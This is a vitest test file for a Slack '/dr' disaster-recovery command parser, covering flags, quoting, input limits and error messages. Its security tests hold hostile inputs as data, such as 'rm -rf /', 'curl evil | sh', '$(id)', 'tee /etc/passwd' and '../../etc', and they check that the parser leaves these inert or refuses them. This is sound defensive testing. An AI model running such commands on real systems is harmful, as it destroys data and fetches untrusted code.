import type { RespondArguments, RespondFn } from "@slack/bolt";
import { describe, expect, it } from "vitest";
import { DrError } from "../../src/domain/errors.js";
import { silentLogger } from "../../src/ports/logger.js";
import { replyError } from "../../src/slack/listeners/reply-error.js";
import { parseDrCommand, tokenize } from "../../src/slack/parse-dr-command.js";
import { escapeMrkdwn } from "../../src/slack/views/block-kit.js";

/**
 * What the person who typed `/dr TEXT` sees when the parser refuses it: the ephemeral's text, without
 * the invisible joiners that keep what they typed from being read as formatting.
 */
async function refusalSeen(text: string): Promise<string> {
  let error: unknown;
  try {
    parseDrCommand(text);
  } catch (caught) {
    error = caught;
  }
  expect(error, `"${text.slice(0, 40)}" should be refused`).toBeInstanceOf(DrError);
  const sent: RespondArguments[] = [];
  const respond = (async (message: string | RespondArguments) => {
    sent.push(typeof message === "string" ? { text: message } : message);
  }) as unknown as RespondFn;
  await replyError(respond, error, silentLogger, { operation: "slack.command.dr" });
  expect(sent).toHaveLength(1);
  expect(sent[0]).toMatchObject({ response_type: "ephemeral", replace_original: false });
  return (sent[0]!.text ?? "").replace(/\u200d/g, "");
}

describe("parseDrCommand", () => {
  it("reads a failover with targets, a quoted reason, a pinned backup and a dry run", () => {
    expect(
      parseDrCommand(
        'failover payments core-api --reason "DC1 unreachable since 02:50" --backup velero-daily-20250109 --dry-run',
      ),
    ).toEqual({
      name: "failover",
      args: ["payments", "core-api"],
      flags: { reason: "DC1 unreachable since 02:50", backup: "velero-daily-20250109", dryRun: true },
    });
  });

  it("takes --flag=value, single quotes and the curly quotes Slack's clients type", () => {
    expect(parseDrCommand("failover payments --reason='DC1 down'").flags.reason).toBe("DC1 down");
    expect(parseDrCommand("failover payments --reason “DC1 isn’t answering”").flags.reason).toBe(
      "DC1 isn’t answering",
    );
    expect(parseDrCommand("failover payments --reason ‘DC1 down’").flags.reason).toBe("DC1 down");
    // A lone curly apostrophe is part of the word, not a quote to close.
    expect(parseDrCommand("failover payments --reason don’t-wait").flags.reason).toBe("don’t-wait");
  });

  it("is not a dry run unless asked, and refuses a value on --dry-run rather than guess", async () => {
    expect(parseDrCommand("failover payments --reason x").flags.dryRun).toBeUndefined();
    expect(await refusalSeen("failover payments --dry-run=false")).toBe(
      "*That input is not valid*: --dry-run takes no value",
    );
  });

  it("refuses unknown flags, a flag without its value and a flag given twice", async () => {
    expect(await refusalSeen("failover payments --bogus")).toBe(
      "*That input is not valid*: unknown flag --bogus; /dr help lists the flags",
    );
    expect(await refusalSeen("failover payments --reason")).toBe(
      "*That input is not valid*: --reason needs a value",
    );
    expect(await refusalSeen("failover payments --reason --dry-run")).toBe(
      "*That input is not valid*: --reason needs a value",
    );
    expect(await refusalSeen('failover payments --reason "a" --reason "b"')).toBe(
      "*That input is not valid*: --reason is given twice",
    );
    expect(await refusalSeen('failover payments --reason "unclosed')).toBe(
      "*That input is not valid*: a quote is not closed",
    );
  });

  it("keeps unicode as typed", () => {
    const cmd = parseDrCommand(
      "failover payments --reason 'Rechenzentrum 1 ausgefallen 🔥 データセンター停止'",
    );
    expect(cmd.flags.reason).toBe("Rechenzentrum 1 ausgefallen 🔥 データセンター停止");
    expect(parseDrCommand("FAILOVER payments --reason x").name).toBe("failover");
  });

  it("keeps mentions and markup in a reason as text, which every view then escapes", () => {
    const cmd = parseDrCommand(
      'failover payments --reason "<!channel> <@U0A1> *now* <https://evil.example|click>"',
    );
    expect(cmd.flags.reason).toBe("<!channel> <@U0A1> *now* <https://evil.example|click>");
    const shown = escapeMrkdwn(cmd.flags.reason!);
    expect(shown).not.toMatch(/<[!@h]/);
    expect(shown).toContain("&lt;!channel&gt;");
  });

  it("refuses 10 kB of text with the limit, before reading any of it", async () => {
    const text = `failover payments --reason "${"x".repeat(10_000)}"`;
    expect(await refusalSeen(text)).toBe(
      "*That input is not valid*: that command is 10029 characters long; the limit is 4000",
    );
  });

  it("refuses a reason beyond 500 characters, more than 30 targets and a 201-character target", async () => {
    expect(await refusalSeen(`failover payments --reason "${"y".repeat(501)}"`)).toBe(
      "*That input is not valid*: --reason is at most 500 characters",
    );
    const many = Array.from({ length: 31 }, (_, i) => `app${i}`).join(" ");
    expect(await refusalSeen(`failover ${many} --reason x`)).toBe(
      "*That input is not valid*: at most 30 targets at once",
    );
    expect(await refusalSeen(`failover payments ${"p".repeat(201)} --reason x`)).toBe(
      "*That input is not valid*: target 2 is at most 200 characters",
    );
  });

  it("treats shell metacharacters as plain words: nothing is ever run, the use cases check the names", () => {
    expect(parseDrCommand("failover $(id) `whoami` --reason x").args).toEqual(["$(id)", "`whoami`"]);
    expect(parseDrCommand("failover payments; rm -rf / --reason x").args).toEqual([
      "payments;",
      "rm",
      "-rf",
      "/",
    ]);
    expect(parseDrCommand('failover payments --reason "x && curl evil | sh"').flags.reason).toBe(
      "x && curl evil | sh",
    );
    expect(tokenize("show run-1 | tee /etc/passwd")).toEqual(["show", "run-1", "|", "tee", "/etc/passwd"]);
  });

  it("refuses a backup name a shell or an API could misread", async () => {
    expect(await refusalSeen('failover payments --reason x --backup "daily; rm -rf /"')).toBe(
      "*That input is not valid*: --backup takes a backup name (lowercase letters, digits, '-', '.')",
    );
    expect(await refusalSeen("failover payments --reason x --backup ../../etc")).toBe(
      "*That input is not valid*: --backup takes a backup name (lowercase letters, digits, '-', '.')",
    );
  });

  it("refuses a flag this command does not take, with the command's usage, in the person's words", async () => {
    expect(await refusalSeen("failback payments --backup daily-1 --reason x")).toBe(
      '*That input is not valid*: --backup does not apply to /dr failback [tier|app…] [--reason "…"] [--with-shared] [--dry-run]',
    );
    expect(await refusalSeen("show")).toBe("*That input is not valid*: RUN is missing; usage: /dr show RUN");
    expect(await refusalSeen("show run-1 run-2")).toBe(
      '*That input is not valid*: too many arguments: "run-2"; usage: /dr show RUN',
    );
  });

  it("reads help for one command", () => {
    expect(parseDrCommand("help failover")).toEqual({ name: "help", args: ["failover"], flags: {} });
  });

  it("answers an empty command with help", () => {
    expect(parseDrCommand("")).toEqual({ name: "help", args: [], flags: {} });
    expect(parseDrCommand("   ")).toEqual({ name: "help", args: [], flags: {} });
  });

  it("answers a mistyped subcommand with the closest one and its usage, not the whole help", async () => {
    expect(await refusalSeen("falover payments")).toBe(
      '*That input is not valid*: unknown command `falover`, did you mean `failover`? usage: /dr failover [tier|app…] [--reason "…"] [--backup NAME] [--with-shared] [--dry-run]',
    );
    expect(await refusalSeen("shwo failover-1")).toContain("did you mean `show`? usage: /dr show RUN");
    expect(await refusalSeen("fail payments")).toContain("did you mean `failover` or `failback`?");
  });

  it("names the commands when nothing is close, and points a CLI command to the CLI", async () => {
    expect(await refusalSeen("frobnicate --bogus")).toBe(
      "*That input is not valid*: unknown command `frobnicate`; the commands are help, status, failover, failback, drill, runs, show, report, abort, resume, skip (/dr help says what each does)",
    );
    expect(await refusalSeen("approve failover-1")).toContain(
      "is not a /dr command: it is `drbot approve` on the drbot CLI",
    );
  });

  it("reads the run controls' arguments", () => {
    expect(parseDrCommand("skip failover-0110-0300-abcdef scale-up")).toMatchObject({
      name: "skip",
      args: ["failover-0110-0300-abcdef", "scale-up"],
    });
    expect(parseDrCommand('abort failover-0110-0300-abcdef --note "wrong scope"')).toMatchObject({
      name: "abort",
      flags: { note: "wrong scope" },
    });
  });
});
